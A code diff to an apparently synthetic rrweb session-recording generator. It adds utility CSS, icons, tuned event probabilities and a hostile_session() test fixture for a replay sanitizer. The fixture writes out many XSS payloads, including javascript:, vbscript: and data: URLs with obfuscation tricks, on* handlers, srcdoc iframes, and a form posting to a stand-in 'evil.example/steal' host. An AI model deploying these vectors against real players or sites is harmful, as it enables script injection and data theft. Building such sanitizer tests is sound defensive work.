@@ -29,6 +29,7 @@ CLI: `python -m recorder.generator --events N [--duration-ms D] [--seed S] -o FI
 from __future__ import annotations
 
 import argparse
+import functools
 import math
 import random
 import sys
@@ -263,7 +264,64 @@ def _app_css() -> str:
         "@media (max-width:900px){.kpis{grid-template-columns:repeat(2,1fr)}form.profile{grid-template-columns:1fr}}",
         "@media (prefers-reduced-motion:reduce){*{transition:none!important;animation:none!important}}",
     ]
-    return "".join(rules)
+    return "".join(rules) + _utility_css()
+
+
+@functools.lru_cache(maxsize=1)
+def _utility_css() -> str:
+    """The utility-class part of a modern app stylesheet (a Tailwind-like subset): what
+    makes real inlined `_cssText` tens of kilobytes."""
+    out = []
+    scale = ("0", ".125rem", ".25rem", ".5rem", ".75rem", "1rem", "1.25rem", "1.5rem", "2rem",
+             "2.5rem", "3rem", "4rem", "5rem")
+    for short, props in (("m", ("margin",)), ("mt", ("margin-top",)), ("mb", ("margin-bottom",)),
+                         ("ml", ("margin-left",)), ("mr", ("margin-right",)),
+                         ("mx", ("margin-left", "margin-right")), ("my", ("margin-top", "margin-bottom")),
+                         ("p", ("padding",)), ("pt", ("padding-top",)), ("pb", ("padding-bottom",)),
+                         ("pl", ("padding-left",)), ("pr", ("padding-right",)),
+                         ("px", ("padding-left", "padding-right")), ("py", ("padding-top", "padding-bottom")),
+                         ("gap", ("gap",))):
+        for i, v in enumerate(scale):
+            out.append(f".{short}-{i}{{{';'.join(f'{p}:{v}' for p in props)}}}")
+    hues = (("gray", 210, 10), ("red", 0, 80), ("orange", 28, 90), ("yellow", 48, 95), ("green", 142, 60),
+            ("teal", 172, 66), ("blue", 217, 91), ("indigo", 239, 84), ("purple", 271, 81), ("pink", 330, 81))
+    for name, hue, sat in hues:
+        for shade in (50, 100, 200, 300, 400, 500, 600, 700, 800, 900):
+            light = 97 - shade * 0.085
+            for prefix, prop in (("text", "color"), ("bg", "background-color"), ("border", "border-color")):
+                out.append(f".{prefix}-{name}-{shade}{{{prop}:hsl({hue} {sat}% {light:.0f}%)}}")
+            out.append(f".hover\\:bg-{name}-{shade}:hover{{background-color:hsl({hue} {sat}% {light:.0f}%)}}")
+    for i in range(1, 13):
+        out.append(f".w-{i}\\/12{{width:{i / 12 * 100:.6f}%}}")
+        out.append(f".col-span-{i}{{grid-column:span {i}/span {i}}}")
+        out.append(f".grid-cols-{i}{{grid-template-columns:repeat({i},minmax(0,1fr))}}")
+    for name, decl in (("flex", "display:flex"), ("inline-flex", "display:inline-flex"), ("grid", "display:grid"),
+                       ("hidden", "display:none"), ("block", "display:block"), ("items-center", "align-items:center"),
+                       ("justify-between", "justify-content:space-between"), ("truncate", "overflow:hidden;text-overflow:ellipsis;white-space:nowrap"),
+                       ("rounded", "border-radius:.25rem"), ("rounded-lg", "border-radius:.5rem"), ("shadow", "box-shadow:0 1px 3px 0 rgb(0 0 0/.1),0 1px 2px -1px rgb(0 0 0/.1)"),
+                       ("font-medium", "font-weight:500"), ("font-semibold", "font-weight:600"), ("text-sm", "font-size:.875rem;line-height:1.25rem"),
+                       ("text-xs", "font-size:.75rem;line-height:1rem"), ("sr-only", "position:absolute;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);white-space:nowrap;border-width:0")):
+        out.append(f".{name}{{{decl}}}")
+    for bp, w in (("sm", 640), ("md", 768), ("lg", 1024), ("xl", 1280)):
+        inner = "".join(f".{bp}\\:grid-cols-{i}{{grid-template-columns:repeat({i},minmax(0,1fr))}}" for i in range(1, 7))
+        out.append(f"@media (min-width:{w}px){{{inner}}}")
+    return "".join(out)
+
+
+# Feather-style icons for the navigation (SVG markup is a real part of snapshot size).
+_ICONS = (
+    "M3 3h7v9H3zM14 3h7v5h-7zM14 12h7v9h-7zM3 16h7v5H3z",
+    "M9 11l3 3L22 4M21 12v7a2 2 0 0 1-2 2H5a2 2 0 0 1-2-2V5a2 2 0 0 1 2-2h11",
+    "M14 2H6a2 2 0 0 0-2 2v16a2 2 0 0 0 2 2h12a2 2 0 0 0 2-2V8zM14 2v6h6M16 13H8M16 17H8M10 9H8",
+    "M12 15a3 3 0 1 0 0-6 3 3 0 0 0 0 6zM19.4 15a1.65 1.65 0 0 0 .33 1.82l.06.06a2 2 0 1 1-2.83 2.83l-.06-.06a1.65 1.65 0 0 0-1.82-.33 1.65 1.65 0 0 0-1 1.51V21a2 2 0 1 1-4 0v-.09A1.65 1.65 0 0 0 9 19.4a1.65 1.65 0 0 0-1.82.33l-.06.06a2 2 0 1 1-2.83-2.83l.06-.06A1.65 1.65 0 0 0 4.68 15a1.65 1.65 0 0 0-1.51-1H3a2 2 0 1 1 0-4h.09A1.65 1.65 0 0 0 4.6 9a1.65 1.65 0 0 0-.33-1.82l-.06-.06a2 2 0 1 1 2.83-2.83l.06.06A1.65 1.65 0 0 0 9 4.68a1.65 1.65 0 0 0 1-1.51V3a2 2 0 1 1 4 0v.09a1.65 1.65 0 0 0 1 1.51 1.65 1.65 0 0 0 1.82-.33l.06-.06a2 2 0 1 1 2.83 2.83l-.06.06A1.65 1.65 0 0 0 19.4 9a1.65 1.65 0 0 0 1.51 1H21a2 2 0 1 1 0 4h-.09a1.65 1.65 0 0 0-1.51 1z",
+)
+
+
+def _icon(d: str) -> E:
+    return E("svg", {"class": "icon", "viewBox": "0 0 24 24", "width": "16", "height": "16", "fill": "none",
+                     "stroke": "currentColor", "stroke-width": "2", "stroke-linecap": "round",
+                     "stroke-linejoin": "round", "aria-hidden": "true"},
+             [E("path", {"d": d}, [], svg=True)], svg=True)
 
 
 _THEME_CSS = (".theme-light body{background:#f8f9fa}"
@@ -346,19 +404,19 @@ class _App:
     def move(self, tx: float, ty: float, target_id: int, steps: int | None = None) -> Iterator:
         """Batched MouseMove events travelling to (tx, ty), rrweb style: each event holds
         the positions sampled since the previous batch, with negative timeOffsets."""
-        rng = self.rng
-        batches = steps if steps is not None else rng.randint(1, 3)
+        rnd = self.rng.random
+        batches = steps if steps is not None else 1 + int(rnd() * 3)
         x0, y0 = self.x, self.y
         fallback = self.page.root.id if self.page else 1
         for b in range(1, batches + 1):
-            npos = rng.randint(2, 9)
+            npos = 2 + int(rnd() * 8)
             span = min(500, max(npos, self.now - self.last_move))
             pos = []
             for i in range(1, npos + 1):
                 f = ((b - 1) * npos + i) / (batches * npos)
-                x = int(x0 + (tx - x0) * f + rng.randint(-6, 6))
-                y = int(y0 + (ty - y0) * f + rng.randint(-4, 4))
-                pos.append({"x": max(0, x), "y": max(0, y),
+                x = int(x0 + (tx - x0) * f + rnd() * 12 - 6)
+                y = int(y0 + (ty - y0) * f + rnd() * 8 - 4)
+                pos.append({"x": x if x > 0 else 0, "y": y if y > 0 else 0,
                             "id": target_id if f > 0.7 else fallback,
                             "timeOffset": -int(span * (npos - i) / npos)})
             self.last_move = self.now
@@ -501,6 +559,7 @@ class _App:
         for i, (label, path) in enumerate((("Dashboard", "/dashboard"), ("Tasks", "/tasks"),
                                            ("Reports", "/reports"), ("Settings", "/settings/profile"))):
             a = _el("a", "active" if path == page.path else None, label, box=(160 + 110 * i, 18, 80, 20), href=path)
+            a.kids.append(_icon(_ICONS[i]))
             links.append(a)
         page.nav_links = links
         page.help_btn = _el("button", "help", "Help", box=(self.width - 220, 14, 60, 28), type="button")
@@ -829,20 +888,20 @@ class _Dashboard(_Page):
         rng = self.rng
         app = self.app
         r = rng.random()
-        if r < 0.50:
+        if r < 0.52:
             yield self.live_tick()
-        elif r < 0.62:
+        elif r < 0.58:
             yield self.new_order()
-        elif r < 0.70:
+        elif r < 0.66:
             yield self.kpi_tick()
-        elif r < 0.86:
+        elif r < 0.947:
             tr, _ = rng.choice(self.rows)
             yield from app.goto(tr)
-        elif r < 0.89:
-            yield from self.sort()
-        elif r < 0.92:
-            yield from self.paginate()
         elif r < 0.95:
+            yield from self.sort()
+        elif r < 0.953:
+            yield from self.paginate()
+        elif r < 0.955:
             yield from self.filter()
         elif r < 0.97:
             yield from app.click(self.export)
@@ -1365,3 +1424,154 @@ def generate_session(n_events: int, duration_ms: int = 4 * 3600 * 1000, seed: in
         etype, data = next(stream)
         k += 1
         yield {"type": etype, "data": data, "timestamp": t}
+
+
+# --- a hostile recording for the sanitizer's tests --------------------------------------------------
+HOSTILE_MARK = "pwned"           # in every executable payload: must never survive sanitizing
+HOSTILE_HOST = "evil.example"    # every remote resource points here: must never be fetched
+HOSTILE_INERT = "inert-text"     # in text that should survive as visible, escaped text
+
+
+def hostile_session(start_ms: int = 1_700_000_000_000) -> list[Raw]:
+    """A small, valid rrweb recording stuffed with what a player must neutralise: inline
+    and remote scripts (also inside SVG), on* handlers in any case, javascript:/vbscript:/
+    data: URLs with case, whitespace and control-character tricks, srcdoc and remote
+    iframes, remote images/srcset/CSS (url(), @import, <link>, _cssText, style
+    attributes), <meta http-equiv=refresh>, <base href>, form actions and formaction,
+    <object>/<embed>, SVG <use href>/xlink:href — in the FullSnapshot and again through
+    mutations, attribute changes, a text change of a <style> and a CSSOM insertRule.
+    Every executable payload contains HOSTILE_MARK, every remote URL HOSTILE_HOST; text
+    meant to stay visible (escaped) contains HOSTILE_INERT."""
+    ids = _Ids()
+    m, h = HOSTILE_MARK, HOSTILE_HOST
+    style = E("style", {}, [T(f"@import url('https://{h}/import.css');\n"
+                              f"body {{ background: url(https://{h}/bg.png) }}\n"
+                              ".card { color: #333 }", style=True)])
+    head = E("head", {}, [
+        E("meta", {"charset": "utf-8"}),
+        E("meta", {"http-equiv": "Refresh", "content": f"0; url=https://{h}/refresh"}),
+        E("base", {"href": f"https://{h}/"}),
+        E("title", {}, [T("Hostile page")]),
+        E("script", {}, [T(f"alert('{m}-inline-script')")]),
+        E("script", {"src": f"https://{h}/{m}.js", "type": "module"}),
+        E("link", {"rel": "stylesheet", "href": f"https://{h}/{m}.css"}),
+        E("link", {"rel": "stylesheet", "href": f"https://{h}/inlined.css",
+                   "_cssText": f"body {{ background-image: url(\"https://{h}/csstext.png\") }}"}),
+        E("link", {"rel": "preload", "as": "script", "href": f"https://{h}/preload.js"}),
+        style,
+    ])
+    victim_div = E("div", {"class": "card", "id": "victim"}, [T("Plain card")])
+    victim_a = E("a", {"href": "/safe"}, [T("Safe link")])
+    victim_style_text = style.kids[0]
+    sheet_style = E("style", {}, [T(".x { color: red }", style=True)])
+    user_input = E("input", {"type": "text", "name": "q", "value": "hello"})
+    body = E("body", {"onload": f"alert('{m}-onload')", "class": "page"}, [
+        E("h1", {"onclick": f"alert('{m}-onclick-h1')"}, [T("A hostile recording")]),
+        E("a", {"href": f"javascript:alert('{m}-href')"}, [T("js link")]),
+        E("a", {"href": f"  JaVaScRiPt:alert('{m}-case')"}, [T("mixed-case js link")]),
+        E("a", {"href": f"java\tscript:alert('{m}-tab')"}, [T("tab js link")]),
+        E("a", {"href": f"\x01javascript:alert('{m}-ctrl')"}, [T("control-char js link")]),
+        E("a", {"href": f"vbscript:msgbox('{m}-vb')"}, [T("vbscript link")]),
+        E("a", {"href": f"data:text/html,<script>alert('{m}-data')</script>"}, [T("data link")]),
+        E("a", {"href": f"https://{h}/away", "target": "_blank", "ping": f"https://{h}/ping"}, [T("remote link")]),
+        E("img", {"src": f"https://{h}/track.gif", "onerror": f"alert('{m}-onerror')",
+                  "ONCLICK": f"alert('{m}-upper')", "srcset": f"https://{h}/a.png 1x, https://{h}/b.png 2x",
+                  "alt": "tracker"}),
+        E("iframe", {"srcdoc": f"<script>alert('{m}-srcdoc')</script>", "width": "300", "height": "80"}),
+        E("iframe", {"src": f"https://{h}/frame", "width": "300", "height": "80"}),
+        E("form", {"action": f"https://{h}/steal", "method": "post"}, [
+            user_input,
+            E("button", {"formaction": f"javascript:alert('{m}-formaction')"}, [T("Send")]),
+        ]),
+        E("object", {"data": f"https://{h}/{m}.swf", "type": "application/x-shockwave-flash"}),
+        E("embed", {"src": f"https://{h}/{m}-embed.swf"}),
+        E("svg", {"width": "40", "height": "40", "onload": f"alert('{m}-svg-onload')"}, [
+            E("use", {"href": f"https://{h}/sprite.svg#icon", "xlink:href": f"https://{h}/sprite.svg#icon2"}, svg=True),
+            E("script", {}, [T(f"alert('{m}-svg-script')")], svg=True),
+            E("a", {"xlink:href": f"javascript:alert('{m}-svg-link')"}, [E("text", {}, [T("svg link")], svg=True)], svg=True),
+            E("image", {"href": f"https://{h}/svg-image.png"}, svg=True),
+        ], svg=True),
+        E("div", {"style": f"background: url(https://{h}/style-attr.png); color: blue",
+                  "onMouseOver": f"alert('{m}-mouseover')"}, [T("styled div")]),
+        E("video", {"src": f"https://{h}/movie.mp4", "poster": f"https://{h}/poster.jpg"}),
+        E("p", {}, [T(f"<script>alert('{HOSTILE_INERT}')</script> is shown as text, not run")]),
+        E("noscript", {}, [T("noscript content")]),
+        victim_div, victim_a, sheet_style,
+    ])
+    html = E("html", {"lang": "en"}, [head, body])
+    doc = E("#doc")
+    doc.id = ids.next
+    ids.next += 1
+    doctype_id = ids.next
+    ids.next += 1
+    snap = {"type": 0, "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": doctype_id},
+                                      ids.serialize(html)], "id": doc.id}
+    t = start_ms
+    events: list[Raw] = [
+        {"type": _META, "data": {"href": "https://hostile.example/page", "width": 1024, "height": 768}, "timestamp": t},
+        {"type": _FULL, "data": {"node": snap, "initialOffset": {"left": 0, "top": 0}}, "timestamp": t + 5},
+    ]
+
+    def ev(data: Raw, dt: int) -> None:
+        events.append({"type": _INC, "data": data, "timestamp": t + dt})
+
+    added_script = E("script", {}, [T(f"alert('{m}-added-script')")])
+    added_iframe = E("iframe", {"srcdoc": f"<img src=x onerror=alert('{m}-added-srcdoc')>"})
+    added_img = E("img", {"src": f"https://{h}/added.png", "onload": f"alert('{m}-added-onload')"})
+    added_meta = E("meta", {"http-equiv": "refresh", "content": f"1;url=javascript:alert('{m}-meta-js')"})
+    ev(_mutation(adds=ids.adds(body, added_script, None))[1], 1000)
+    ev(_mutation(adds=ids.adds(body, added_iframe, None) + ids.adds(body, added_img, None))[1], 1500)
+    ev(_mutation(adds=ids.adds(head, added_meta, None))[1], 1800)
+    ev(_mutation(attributes=[
+        {"id": victim_div.id, "attributes": {"onclick": f"alert('{m}-attr-onclick')",
+                                             "style": f"background-image: url('https://{h}/attr-style.png')"}},
+        {"id": victim_a.id, "attributes": {"href": f"javascript:alert('{m}-attr-href')"}},
+    ])[1], 2000)
+    ev(_mutation(attributes=[{"id": victim_div.id, "attributes": {"style": {"background": f"url(https://{h}/style-diff.png)"}}}])[1], 2200)
+    ev(_mutation(texts=[{"id": victim_style_text.id,
+                         "value": f"@import 'https://{h}/mutated.css'; .card {{ background: url(//{h}/mutated.png) }}"}])[1], 2500)
+    ev({"source": _SHEET, "id": sheet_style.id, "adds": [
+        {"rule": f".y {{ background: url(https://{h}/rule.png) }}", "index": 1}]}, 3000)
+    ev({"source": _INPUT, "text": f"\"><script>alert('{HOSTILE_INERT}')</script>", "isChecked": False,
+        "userTriggered": True, "id": user_input.id}, 3500)
+    ev({"source": _MI, "type": _CLICK, "id": victim_a.id, "x": 10, "y": 10, "pointerType": 0}, 4000)
+    return events
+
+
+# --- command line --------------------------------------------------------------------------------
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(prog="python -m recorder.generator",
+                                 description="Write a synthetic rrweb recording as a JSON array.")
+    ap.add_argument("--events", type=int, default=10_000, help="number of events (default 10000)")
+    ap.add_argument("--duration-ms", type=int, default=None,
+                    help="time span in ms (default: 4 h for >= 100k events, else 15 ms per event)")
+    ap.add_argument("--seed", type=int, default=0)
+    ap.add_argument("--start-ms", type=int, default=1_700_000_000_000)
+    ap.add_argument("--hostile", action="store_true", help="write the small hostile recording instead")
+    ap.add_argument("-o", "--output", default="-", help="output file (default: stdout)")
+    args = ap.parse_args(argv)
+    if args.hostile:
+        events: Any = hostile_session(args.start_ms)
+    else:
+        if args.events < 0:
+            ap.error("--events must be >= 0")
+        duration = args.duration_ms
+        if duration is None:
+            duration = 4 * 3600 * 1000 if args.events >= 100_000 else max(60_000, args.events * 15)
+        events = generate_session(args.events, duration, args.seed, args.start_ms)
+    out = sys.stdout.buffer if args.output == "-" else open(args.output, "wb")
+    try:
+        out.write(b"[")
+        for i, e in enumerate(events):
+            if i:
+                out.write(b",\n")
+            out.write(encode_json(e))
+        out.write(b"]\n")
+    finally:
+        if out is not sys.stdout.buffer:
+            out.close()
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
